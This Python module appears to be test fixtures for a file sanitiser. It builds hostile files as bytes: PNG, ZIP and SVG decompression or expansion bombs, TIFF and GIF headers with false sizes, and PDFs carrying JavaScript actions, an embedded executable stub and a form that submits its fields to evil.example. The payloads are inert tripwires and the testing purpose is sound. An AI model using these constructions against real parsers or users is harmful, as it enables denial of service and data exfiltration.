"""Files that no text can hold: pictures, documents and workbooks that mean harm, as bytes."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SCRIPT = b"<script>tripwire()</script>"


def make_chunk(kind: bytes, content: bytes) -> bytes:
    """Return one chunk of a PNG."""
    check = struct.pack(">I", zlib.crc32(kind + content))
    return struct.pack(">I", len(content)) + kind + content + check


def make_png(width: int = 60, height: int = 40, chunks: bytes = b"", rows: bytes = b"") -> bytes:
    """Return a grey PNG; `rows` replaces its pixels, packed, so that a header can lie."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    packed = rows or zlib.compress((b"\0" + b"\x80" * width) * height)
    body = make_chunk(b"IHDR", header) + chunks + make_chunk(b"IDAT", packed)
    return b"\x89PNG\r\n\x1a\n" + body + make_chunk(b"IEND", b"")


def make_png_bomb(kind: bytes, size: int = 200_000_000) -> bytes:
    """Return a small PNG with a huge text or colour profile, packed."""
    return make_png(chunks=make_chunk(kind, b"x\0\0" + zlib.compress(b"\0" * size)))


def make_picture(form: str, width: int = 60, height: int = 40) -> bytes:
    """Return a harmless picture in a form that Pillow knows."""
    content = io.BytesIO()
    Image.new("RGB", (width, height), (200, 90, 40)).save(content, form)
    return content.getvalue()


def make_gif_header(width: int, height: int) -> bytes:
    """Return a GIF of which only the size is true."""
    size = struct.pack("<HH", width, height)
    frame = b"\x2c\0\0\0\0" + size + b"\0\x02\x02\x44\x01\0"
    return b"GIF89a" + size + b"\x80\0\0\0\0\0\xff\xff\xff" + frame + b"\x3b"


def make_tiff(width: int, height: int, frames: int = 1) -> bytes:
    """Return a TIFF with frames that all show the same byte, of any size that is claimed."""
    content = bytearray(struct.pack("<2sHI", b"II", 42, 8))
    for frame in range(frames):
        entries = [(256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 0)]
        entries += [(277, 1), (278, height), (279, min(width * height, 2**32 - 1))]
        content += struct.pack("<H", len(entries))
        for tag, value in entries:
            content += struct.pack("<HHII", tag, 4, 1, value)
        is_last = frame == frames - 1
        content += struct.pack("<I", 0 if is_last else len(content) + 4)
    return bytes(content)


def make_svg(body: str, attributes: str = 'viewBox="0 0 40 40"') -> bytes:
    """Return a drawing."""
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<svg {spaces} {attributes}>{body}</svg>".encode()


def make_svg_of_uses(levels: int, times: int = 10) -> bytes:
    """Return a drawing in which each group uses the one before many times."""
    groups = ['<g id="g0"><path d="M0 0h9v9z"/></g>']
    for level in range(1, levels):
        groups.append(f'<g id="g{level}">' + f'<use href="#g{level - 1}"/>' * times + "</g>")
    return make_svg("".join(groups))


def make_workbook(members: dict[str, bytes]) -> bytes:
    """Return a ZIP archive, as workbooks are."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, member in members.items():
            archive.writestr(name, member)
    return content.getvalue()


def make_workbook_bomb(claimed_bytes: int) -> bytes:
    """Return a small workbook whose list of members claims a huge one."""
    content = make_workbook({"xl/worksheets/sheet1.xml": b"x" * 10})
    place = content.index(b"PK\x01\x02") + 24
    return content[:place] + struct.pack("<I", claimed_bytes) + content[place + 4 :]


def make_pdf(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    """Return a PDF of one empty page, changed in any way."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    change(pdf)
    content = io.BytesIO()
    pdf.save(content, **options)  # type: ignore[arg-type]
    return content.getvalue()


def script() -> Dictionary:
    """Return an action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('tripwire')"))


def set_root(**members: object) -> Callable[[pikepdf.Pdf], None]:
    """Return a change of a PDF's catalogue."""

    def change(pdf: pikepdf.Pdf) -> None:
        for name, value in members.items():
            pdf.Root[f"/{name}"] = value

    return change


def set_page(**members: object) -> Callable[[pikepdf.Pdf], None]:
    """Return a change of a PDF's page."""

    def change(pdf: pikepdf.Pdf) -> None:
        for name, value in members.items():
            pdf.pages[0].obj[f"/{name}"] = value

    return change


def annotate(*annotations: object) -> Callable[[pikepdf.Pdf], None]:
    """Return a change that puts annotations on a PDF's page."""
    return set_page(Annots=Array(annotations))


def link(**members: object) -> Dictionary:
    """Return a link annotation."""
    shape = Array([0, 0, 90, 90])
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=shape, **members)


def add_bookmark(pdf: pikepdf.Pdf) -> None:
    """Add a bookmark that runs a script."""
    item = pdf.make_indirect(Dictionary(Title=String("Ouvrir"), A=script()))
    top = Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1)
    pdf.Root.Outlines = pdf.make_indirect(top)
    item.Parent = pdf.Root.Outlines


def add_attachment(pdf: pikepdf.Pdf) -> None:
    """Attach a file to a PDF."""
    pdf.attachments["tripwire.exe"] = b"MZ tripwire"


def attach_to_page(pdf: pikepdf.Pdf) -> None:
    """Attach a file to a PDF's page, as PDF 2.0 allows."""
    stream = pdf.make_stream(b"MZ tripwire")
    file = Dictionary(Type=Name.Filespec, F=String("tripwire.exe"), EF=Dictionary(F=stream))
    pdf.pages[0].obj["/AF"] = Array([pdf.make_indirect(file)])


def add_form(pdf: pikepdf.Pdf) -> None:
    """Add a form whose button sends its fields away."""
    action = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    shape = Array([0, 0, 90, 90])
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("x"), Rect=shape, A=action
        )
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<tripwire/>"))
    pdf.pages[0].obj["/Annots"] = Array([field])


def leave_as_it_is(_pdf: pikepdf.Pdf) -> None:
    """Change nothing."""


def list_pdf_words(content: bytes) -> set[str]:
    """Return all keys, names and texts of a PDF's objects that can be reached or are kept."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        waiting: list[object] = [*pdf.objects, pdf.trailer]
        while waiting:
            item = waiting.pop()
            if isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
                for key, value in item.items():
                    found.add(key)
                    # What is elsewhere in the list of objects is looked at there
                    waiting += [] if getattr(value, "is_indirect", False) else [value]
            elif isinstance(item, pikepdf.Array):
                waiting += [v for v in item if not getattr(v, "is_indirect", False)]
            elif isinstance(item, pikepdf.Name | pikepdf.String):
                found.add(str(item))
    return found
